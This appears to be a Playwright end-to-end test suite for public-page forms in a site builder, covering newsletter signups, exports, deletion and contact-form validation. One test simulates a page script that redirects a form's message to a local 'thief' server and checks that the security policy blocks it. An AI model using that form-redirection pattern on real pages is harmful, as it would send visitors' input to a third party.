@@ -1,0 +1,160 @@
+// Forms on a public page, end to end: the assistant adds one, visitors send it with and without
+// scripts, the owner sees, exports and deletes what came. A form to somebody else sends nothing.
+import { readFile } from 'node:fs/promises';
+import { createServer } from 'node:http';
+import { type Browser, expect, type Page, test } from '@playwright/test';
+import { pagesOrigin } from './support/origins.ts';
+import { createPage, createPerson, publishPage, signIn } from './support/people.ts';
+
+/** A visitor of their own, who never signed in. */
+async function visit(browser: Browser | null, path: string, javaScriptEnabled: boolean) {
+  if (!browser) throw new Error('no browser');
+  const context = await browser.newContext({ javaScriptEnabled });
+  const page = await context.newPage();
+  await page.goto(`${pagesOrigin}${path}`);
+  return page;
+}
+
+async function tellAssistant(page: Page, sentence: string) {
+  const input = page.getByPlaceholder('Message AI Studio...');
+  await input.fill(sentence);
+  await input.press('Enter');
+  await expect(input).toBeEnabled();
+}
+
+for (const scripts of [true, false]) {
+  test(`a visitor signs up ${scripts ? 'with' : 'without'} scripts on a page that the assistant gave a form`, async ({
+    page,
+    request,
+    context,
+  }) => {
+    test.setTimeout(120_000);
+    const person = await createPerson(request);
+    await createPage(request, person);
+    await signIn(page, person);
+    await page.goto('/ai-studio');
+    await tellAssistant(page, 'Add a newsletter form');
+    const preview = page.frameLocator('iframe[title="Preview of your page"]');
+    await expect(preview.getByRole('textbox', { name: 'Email' })).toBeVisible();
+    await page.getByRole('button', { name: 'Save Changes' }).click();
+    await expect(page.getByText('Page saved successfully')).toBeVisible();
+    await page.getByRole('button', { name: 'Publish', exact: true }).click();
+    await expect(page.getByText(`Published to localhost:`)).toBeVisible();
+
+    const visitor = await visit(context.browser(), `/${person.username}`, scripts);
+    await visitor.getByRole('textbox', { name: 'Email' }).fill('ben@example.com');
+    await visitor.locator('form[data-form="newsletter"] button').click();
+    await expect(visitor.getByRole('heading', { level: 1 })).toHaveText('You are on the list');
+    await visitor.getByRole('link', { name: 'Back to the page' }).click();
+    await expect(visitor).toHaveURL(`${pagesOrigin}/${person.username}`);
+    await visitor.context().close();
+
+    await page.goto('/pages');
+    const messages = page.getByRole('region', { name: 'Messages' });
+    await expect(messages.getByRole('row', { name: /ben@example\.com/ })).toBeVisible();
+    await expect(messages.getByText('Not confirmed', { exact: true })).toBeVisible();
+
+    const download = page.waitForEvent('download');
+    await messages.getByRole('button', { name: 'Export CSV' }).click();
+    const file = await download;
+    expect(file.suggestedFilename()).toMatch(/^[\w-]+-messages-\d{4}-\d\d-\d\d\.csv$/);
+    expect(await readFile(await file.path(), 'utf8')).toContain('"ben@example.com"');
+
+    await messages.getByRole('button', { name: /^Delete/ }).click();
+    await expect(messages.getByText('ben@example.com')).toHaveCount(0);
+    await page.getByRole('button', { name: 'Undo' }).click();
+    await expect(messages.getByText('ben@example.com')).toBeVisible();
+  });
+}
+
+const contactForm = (attributes: string) => ({
+  jsx: `import { useState } from 'react';
+export default function Page() {
+  const [count, setCount] = useState(0);
+  return <main>
+    <h1>Ada</h1>
+    <button type="button" onClick={() => setCount(count + 1)}>Awake {count}</button>
+    <form ${attributes}>
+      <label>Message <textarea name="message"></textarea></label>
+      <button type="submit">Send {count}</button>
+    </form>
+  </main>;
+}`,
+  css: '',
+  metadata: { title: 'Ada', description: '' },
+});
+
+test('a form that would post elsewhere does nothing, also once the page runs its scripts', async ({
+  request,
+  context,
+}) => {
+  let received = 0;
+  const thief = createServer((_request, response) => {
+    received += 1;
+    response.end('thanks');
+  });
+  await new Promise<void>((resolve) => thief.listen(0, '127.0.0.1', resolve));
+  const address = thief.address();
+  const port = typeof address === 'object' && address !== null ? address.port : 0;
+  const person = await createPerson(request);
+  const content = contactForm(
+    `method="post" action={count > 0 ? "http://127.0.0.1:${port}/" : "/x"}`,
+  );
+  await publishPage(request, person, await createPage(request, person, content));
+
+  const still = await visit(context.browser(), `/${person.username}`, false);
+  await still.getByLabel('Message').fill('secret');
+  await still.getByRole('button', { name: /^Send/ }).click();
+  // Somewhere else, or after a reload, it would be gone.
+  await expect(still.getByLabel('Message')).toHaveValue('secret');
+  expect(still.url()).toBe(`${pagesOrigin}/${person.username}`);
+  await still.context().close();
+
+  const lively = await visit(context.browser(), `/${person.username}`, true);
+  const awake = lively.getByRole('button', { name: /^Awake/ });
+  await awake.click();
+  await expect(awake).toHaveText('Awake 1');
+  await lively.getByLabel('Message').fill('secret');
+  // Whatever the sanitiser took, a script of the page could put back. A click would have to wait for a
+  // navigation that begins and never ends.
+  await lively.evaluate((action) => {
+    document.addEventListener('securitypolicyviolation', (event) => {
+      document.body.dataset.refused = event.effectiveDirective;
+    });
+    const form = document.forms[0];
+    if (!form) throw new Error('no form');
+    form.method = 'post';
+    form.action = action;
+    form.requestSubmit();
+  }, `http://127.0.0.1:${port}/`);
+  const refused = () => lively.evaluate(() => document.body.dataset.refused);
+  await expect.poll(refused).toBe('form-action');
+  expect(lively.url()).toBe(`${pagesOrigin}/${person.username}`);
+  await lively.context().close();
+  expect(received).toBe(0);
+  thief.close();
+});
+
+test('a contact form of a running page reaches its owner, and says what is missing', async ({
+  page,
+  request,
+  context,
+}) => {
+  const person = await createPerson(request);
+  const content = contactForm('data-form="contact"');
+  await publishPage(request, person, await createPage(request, person, content));
+  const visitor = await visit(context.browser(), `/${person.username}`, true);
+  await visitor.getByRole('button', { name: /^Awake/ }).click();
+  await visitor.getByRole('button', { name: /^Send/ }).click();
+  await expect(visitor.getByRole('heading', { level: 1 })).toHaveText('Not sent yet');
+  await expect(visitor.getByText('Message is required')).toBeVisible();
+  await visitor.getByRole('link', { name: 'Back to the page' }).click();
+  await visitor.getByLabel('Message').fill('Do you sell prints?');
+  await visitor.getByRole('button', { name: /^Send/ }).click();
+  await expect(visitor.getByRole('heading', { level: 1 })).toHaveText('Message sent');
+  await visitor.context().close();
+
+  await signIn(page, person);
+  await page.goto('/pages');
+  await expect(page.getByRole('row', { name: /Do you sell prints\?/ })).toBeVisible();
+});
